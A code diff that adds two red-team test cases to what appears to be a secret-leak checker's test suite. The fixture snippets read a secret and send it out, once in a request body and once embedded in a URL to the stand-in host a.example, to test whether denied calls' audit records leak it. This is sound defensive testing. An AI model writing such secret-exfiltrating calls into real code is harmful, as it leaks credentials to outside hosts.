@@ -694,4 +694,21 @@ post({ url: 'u', body: String(o.a) });
 `,
     values: ['hello', 'xy'],
   },
+  {
+    name: "red team U6: the size of a secret argument in the denied call's audit record",
+    mode: 'secret',
+    source: `const s = get_secret({});
+post({ url: 'u', body: s });
+`,
+    values: ['hello', 'xy'],
+  },
+  {
+    name: "red team U6/U7: a secret-chosen argument in a denied call's record, beside a public one",
+    mode: 'secret',
+    source: `const s = get_secret({});
+post({ url: s.length > 3 ? 'https://a.example/' + s : 'b', body: 'hi' });
+log({ msg: s.length > 3 ? 'long' : 'short' });
+`,
+    values: ['hello', 'xy'],
+  },
 ];
